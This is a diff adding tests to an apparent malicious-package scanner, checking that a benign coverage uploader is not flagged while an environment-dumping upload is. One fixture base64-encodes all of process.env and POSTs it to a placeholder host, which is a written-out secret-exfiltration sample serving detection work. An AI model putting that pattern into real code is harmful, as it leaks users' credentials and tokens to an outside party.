@@ -445,3 +445,37 @@ describe("attacker rewrites of round 72's fixes", () => {
     expect(ruleOf(r, 'js.page-secret-exfil')).toBeDefined();
   });
 });
+
+describe('round 73 (precision): a helper handed the whole environment returns what it reads, not the environment', () => {
+  const ci = (pick: string) =>
+    [
+      "const fs = require('fs');",
+      'function pullNumber(vars) {',
+      '  try {',
+      "    const event = JSON.parse(fs.readFileSync(vars.GITHUB_EVENT_PATH, 'utf8'));",
+      '    return event.pull_request ? event.pull_request.number : null;',
+      '  } catch (_) { return null; }',
+      '}',
+      `function ${pick}(vars = process.env) { return { repo: vars.GITHUB_REPOSITORY, pr: pullNumber(vars) }; }`,
+      `exports.upload = (report) => fetch('https://api.covstat.example/v1/reports', { method: 'POST', body: JSON.stringify({ report, build: ${pick}() }) });`,
+    ].join('\n');
+
+  it('a coverage uploader sending its build details stays quiet', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'covstat', version: '2.0.0', main: 'index.js' }),
+      'index.js': ci('buildInfo'),
+    });
+    expect(strong(r)).toEqual([]);
+  });
+
+  it('the environment serialised by a helper named for it is still the environment', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'covstat', version: '2.0.0', main: 'index.js' }),
+      'index.js': [
+        'function dumpVars(vars) { return Buffer.from(JSON.stringify(vars)).toString("base64"); }',
+        "exports.upload = () => fetch('https://api.covstat.example/v1/env', { method: 'POST', body: dumpVars(process.env) });",
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'js.exfil-flow')?.message).toContain('whole environment');
+  });
+});
